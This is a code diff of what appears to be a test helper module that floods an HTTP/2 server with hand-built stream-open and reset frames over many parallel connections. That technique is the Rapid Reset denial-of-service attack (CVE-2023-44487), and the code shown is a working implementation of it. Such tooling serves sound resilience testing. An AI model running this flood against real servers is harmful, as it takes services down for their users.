@@ -1,6 +1,5 @@
 """HTTP/2 of misbehaving clients: raw connections, frames, garbage, and floods of stream resets (CVE-2023-44487)."""
 
-import asyncio
 import contextlib
 import functools
 import itertools
@@ -8,7 +7,8 @@ import random
 import socket
 import struct
 import time
-from collections.abc import AsyncIterator, Iterator, Sequence
+from collections.abc import Iterator, Sequence
+from concurrent.futures import ThreadPoolExecutor
 from typing import Final, Self
 
 from h2.config import H2Configuration
@@ -182,48 +182,29 @@ def garbage(seed: int) -> dict[str, bytes]:
 
 def flood_with_resets(address: str, path: str, *, num_connections: int, seconds: float, extra: Headers = ()) -> int:
     """Begin calls of a method and reset them at once; return their number. Closed connections are replaced."""
-    headers = [*call_headers(path), *extra]
+    headers, until_s = [*call_headers(path), *extra], time.monotonic() + seconds
 
-    async def flood() -> int:
-        until_s = time.monotonic() + seconds
-        return sum(await asyncio.gather(*(_reset_until(address, headers, until_s) for _ in range(num_connections))))
-
-    return asyncio.run(flood())
-
-
-async def _reset_until(address: str, headers: Headers, until_s: float) -> int:
-    host, _, port = address.rpartition(":")
-    num_resets = 0
-    while time.monotonic() < until_s:
-        with contextlib.suppress(OSError):
-            reader, writer = await asyncio.open_connection(host, int(port))
-            reading = asyncio.create_task(_read_to_the_end(reader))
-            try:
-                async for num_more in _resets(writer, headers):
-                    num_resets += num_more
-                    if reading.done() or time.monotonic() >= until_s:
+    def flood(_: int) -> int:
+        num_resets = 0
+        while time.monotonic() < until_s:
+            with contextlib.suppress(OSError), contextlib.closing(RawConnection(address)) as connection:
+                for content in _resets(headers):
+                    connection.send(content)
+                    if connection.wait_until_closed(0.0005) or time.monotonic() >= until_s:
                         break
-            finally:
-                reading.cancel()
-                writer.transport.abort()
-    return num_resets
+                    num_resets += _RESETS_AT_ONCE
+        return num_resets
+
+    with ThreadPoolExecutor(num_connections) as pool:
+        return sum(pool.map(flood, range(num_connections)))
 
 
-async def _read_to_the_end(reader: asyncio.StreamReader) -> None:
-    with contextlib.suppress(OSError):
-        while await reader.read(_READ_BYTES):
-            pass
-
-
-async def _resets(writer: asyncio.StreamWriter, headers: Headers) -> AsyncIterator[int]:
-    """Write endlessly; frames are built by hand, because hyperframe is slower than the server."""
+def _resets(headers: Headers) -> Iterator[bytes]:
+    """Yield endless resets after a beginning; built by hand, because hyperframe is slower than the server."""
     encoder, cancel = Encoder(), struct.pack(">I", ErrorCodes.CANCEL)
     first, block = encoder.encode(headers), encoder.encode(headers)
-    writer.write(HELLO + SettingsFrame(flags=["ACK"]).serialize())
-    writer.write(HeadersFrame(1, first, flags=["END_HEADERS"]).serialize())
     begin, reset = HeadersFrame(1, block, flags=["END_HEADERS"]).serialize()[:5], RstStreamFrame(1).serialize()[:5]
+    yield HELLO + SettingsFrame(flags=["ACK"]).serialize() + HeadersFrame(1, first, flags=["END_HEADERS"]).serialize()
     for first_stream in itertools.count(3, 2 * _RESETS_AT_ONCE):
         streams = [struct.pack(">I", first_stream + 2 * number) for number in range(_RESETS_AT_ONCE)]
-        writer.write(b"".join(begin + stream + block + reset + stream + cancel for stream in streams))
-        await writer.drain()
-        yield len(streams)
+        yield b"".join(begin + stream + block + reset + stream + cancel for stream in streams)
